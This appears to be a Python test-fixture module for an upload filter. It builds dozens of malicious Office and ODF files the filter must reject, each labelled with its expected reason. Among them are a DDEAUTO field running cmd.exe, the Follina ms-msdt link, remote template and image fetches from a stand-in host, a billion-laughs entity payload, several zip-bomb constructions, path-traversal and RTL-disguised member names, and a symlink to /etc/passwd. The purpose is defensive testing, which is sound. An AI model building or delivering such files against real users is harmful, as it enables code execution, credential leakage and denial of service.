"""Office files that must not get in: (what it is made of, the reason that is given)."""

import io
import struct
import zipfile

from . import packing as p

CFB = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
DOC = p.PARTS["docx"]


LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
    "<a>&b;</a>"
)
MACRO_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
FAKE_ODT = p.odf(
    "odt",
    {
        "content.xml": p.odf_content(
            before="<office:scripts><script:event-listener/></office:scripts>"
        )
    },
)
DDE = p.word(
    '<w:p><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"</w:instrText></w:r></w:p>'
)
SPLIT_DDE = p.word(
    "<w:p><w:r><w:instrText>DDE</w:instrText></w:r>"
    "<w:r><w:instrText>AUTO x</w:instrText></w:r></w:p>"
)


def bomb(megabytes: int) -> bytes:
    """A Word file that unpacks to a great deal."""
    return p.zipped(p.parts("docx", {"word/media/a.bin": b"\0" * (megabytes << 20)}))


def many_members(count: int) -> bytes:
    """A Word file of very many parts."""
    return p.zipped(p.parts("docx") | {f"word/x/{n}": b"" for n in range(count)})


def lying(declared: int) -> bytes:
    """A Word file where one part is much larger than it says."""
    raw = bytearray(p.zipped(p.parts("docx", {"word/media/a.bin": b"\0" * 3_000_000})))
    at = raw.rfind(b"word/media/a.bin") - 46
    struct.pack_into("<I", raw, at + 24, declared)
    return bytes(raw)


def overlapping() -> bytes:
    """A Word file where two names share the same bytes (as in a better zip bomb)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as packed:
        for name, content in p.parts("docx", {"word/a.bin": b"a" * 999}).items():
            packed.writestr(name, content)
        first = packed.getinfo("word/a.bin")
        again = zipfile.ZipInfo("word/b.bin")
        for name in ("header_offset", "compress_size", "file_size", "CRC", "compress_type"):
            setattr(again, name, getattr(first, name))
        packed.filelist.append(again)
        packed.NameToInfo["word/b.bin"] = again
    return out.getvalue()


def inside() -> bytes:
    """A Word file where one whole part lies in the bytes of another, each named rightly."""
    hidden = p.zipped({"word/b.bin": b"b" * 40}, stored=("word/b.bin",))
    local, listed = hidden[: hidden.find(b"PK\x01\x02")], hidden[hidden.find(b"PK\x01\x02") : -22]
    raw = p.zipped(p.parts("docx", {"word/a.bin": local}), stored=("word/a.bin",))
    start = raw.find(b"PK\x01\x02")
    entry = bytearray(listed)
    struct.pack_into("<I", entry, 42, raw.find(local))
    directory = raw[start:-22] + bytes(entry)
    count = len(p.parts("docx")) + 2
    end = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, count, count, len(directory), start, 0)
    return raw[:start] + directory + end


def many_large(count: int) -> bytes:
    """A Word file of parts that are each small enough, and together far too much."""
    return p.zipped(p.parts("docx") | {f"word/{n}.bin": b"\0" * 4_900_000 for n in range(count)})


def locked_member() -> bytes:
    """A Word file with an encrypted part."""
    raw = bytearray(p.office("docx"))
    raw[6] |= 1
    at = raw.find(b"PK\x01\x02")
    raw[at + 8] |= 1
    return bytes(raw)


def named(name: str) -> bytes:
    """A Word file with a part of that name."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as packed:
        for known, content in p.parts("docx").items():
            packed.writestr(known, content)
        info = zipfile.ZipInfo("x")
        info.filename = name
        packed.writestr(info, b"x")
    return out.getvalue()


def symlink() -> bytes:
    """A Word file with a part that points elsewhere."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as packed:
        for known, content in p.parts("docx").items():
            packed.writestr(known, content)
        info = zipfile.ZipInfo("word/link")
        info.external_attr = 0o120777 << 16
        packed.writestr(info, "/etc/passwd")
    return out.getvalue()


def docx_with(*links, name: str = "word/_rels/document.xml.rels") -> bytes:
    """A Word file with relations."""
    return p.office("docx", {name: p.relations(*links)})


BAD_OFFICE = {
    "makro.docx": (lambda: p.office("docx", {"word/vbaProject.bin": b"x"}), "macro"),
    "omdøpt.docx": (
        lambda: p.office("docx", {"[Content_Types].xml": p.types("docx", main=MACRO_MAIN)}),
        "macro",
    ),
    "xlm.xlsx": (
        lambda: p.office("xlsx", {"xl/macrosheets/sheet1.xml": "<m/>"}),
        "macro",
    ),
    "activex.docx": (lambda: p.office("docx", {"word/activeX/activeX1.xml": "<a/>"}), "macro"),
    "skript.odt": (lambda: FAKE_ODT, "macro"),
    "basic.ods": (lambda: p.odf("ods", {"Basic/Standard/Module1.xml": "<m/>"}), "macro"),
    "ole.docx": (lambda: p.office("docx", {"word/embeddings/oleObject1.bin": CFB}), "embedded"),
    "ole kobling.docx": (lambda: docx_with(("oleObject", "embeddings/x.bin", False)), "embedded"),
    "html inni.docx": (lambda: docx_with(("aFChunk", "afchunk.htm", False)), "embedded"),
    "exe inni.docx": (
        lambda: p.office("docx", {"word/media/image1.png": b"MZ" + b"x" * 99}),
        "embedded",
    ),
    "mal utenfra.docx": (
        lambda: docx_with(
            ("attachedTemplate", "https://ondt.example/x.dotm", True),
            name="word/_rels/settings.xml.rels",
        ),
        "fetches",
    ),
    "bilde utenfra.docx": (
        lambda: docx_with(("image", "https://ondt.example/p.png", True)),
        "fetches",
    ),
    "follina.docx": (
        lambda: docx_with(("hyperlink", "ms-msdt:/id PCWDiagnostic", True)),
        "odd_link",
    ),
    "unc.docx": (lambda: docx_with(("hyperlink", "\\\\ondt.example\\x", True)), "odd_link"),
    "skriptlenke.docx": (lambda: docx_with(("hyperlink", "javascript:alert(1)", True)), "odd_link"),
    "annen bok.xlsx": (
        lambda: p.office(
            "xlsx",
            {
                "xl/externalLinks/_rels/externalLink1.xml.rels": p.relations(
                    ("externalLinkPath", "file:///C:/bok.xlsx", True)
                )
            },
        ),
        "fetches",
    ),
    "dde.docx": (lambda: p.office("docx", {DOC: DDE}), "fetches"),
    "delt dde.docx": (lambda: p.office("docx", {DOC: SPLIT_DDE}), "fetches"),
    "bilde utenfra.odt": (
        lambda: p.odf(
            "odt",
            {"content.xml": p.odf_content('<draw:image xlink:href="http://ondt.example/x"/>')},
        ),
        "fetches",
    ),
    "makrolenke.odt": (
        lambda: p.odf(
            "odt",
            {"content.xml": p.odf_content('<text:a xlink:href="vnd.sun.star.script:x">x</text:a>')},
        ),
        "odd_link",
    ),
    "entiteter.docx": (lambda: p.office("docx", {DOC: LAUGHS}), "damaged"),
    "dyp.docx": (lambda: p.office("docx", {DOC: "<a>" * 5000 + "</a>" * 5000}), "damaged"),
    "bombe.docx": (lambda: bomb(160), "bomb"),
    "tett bombe.docx": (lambda: bomb(20), "bomb"),
    "mange deler.docx": (lambda: many_members(5_000), "bomb"),
    "hundre tusen deler.docx": (lambda: many_members(100_000), "bomb"),
    "lyver.docx": (lambda: lying(10), "bomb"),
    "lyver opp.docx": (lambda: lying(4_000_000), "damaged"),
    "inni hverandre.docx": (inside, "damaged"),
    "mange store.docx": (lambda: many_large(40), "bomb"),
    "overlapper.docx": (overlapping, "damaged"),
    "før.docx": (lambda: b"MZ" + p.office("docx"), "program"),
    "søppel før.docx": (lambda: b"GIF89a" + p.office("docx"), "mismatch"),
    "etter.docx": (lambda: p.office("docx") + b"x", "damaged"),
    "zip i zip.docx": (
        lambda: p.office("docx", {"word/media/a.bin": p.zipped({"b": "b"})}),
        "nested",
    ),
    "docx i docx i docx.docx": (
        lambda: p.office(
            "docx",
            {
                "word/embeddings/a.docx": p.office(
                    "docx", {"word/embeddings/b.docx": p.office("docx")}
                )
            },
        ),
        "nested",
    ),
    "makro i ark i brev.docx": (
        lambda: p.office(
            "docx", {"word/embeddings/a.xlsx": p.office("xlsx", {"xl/vbaProject.bin": b"x"})}
        ),
        "macro",
    ),
    "oppover.docx": (lambda: named("../../etc/cron.d/x"), "member_name"),
    "fra roten.docx": (lambda: named("/etc/passwd"), "member_name"),
    "windows.docx": (lambda: named("word\\..\\x.exe"), "member_name"),
    "disk.docx": (lambda: named("C:/x"), "member_name"),
    "snudd del.docx": (lambda: named("word/\u202ecod.exe"), "member_name"),
    "langt navn.docx": (lambda: named("word/" + "x" * 300), "member_name"),
    "reservert.docx": (lambda: named("word/aux.xml"), "member_name"),
    "peker.docx": (symlink, "member_name"),
}
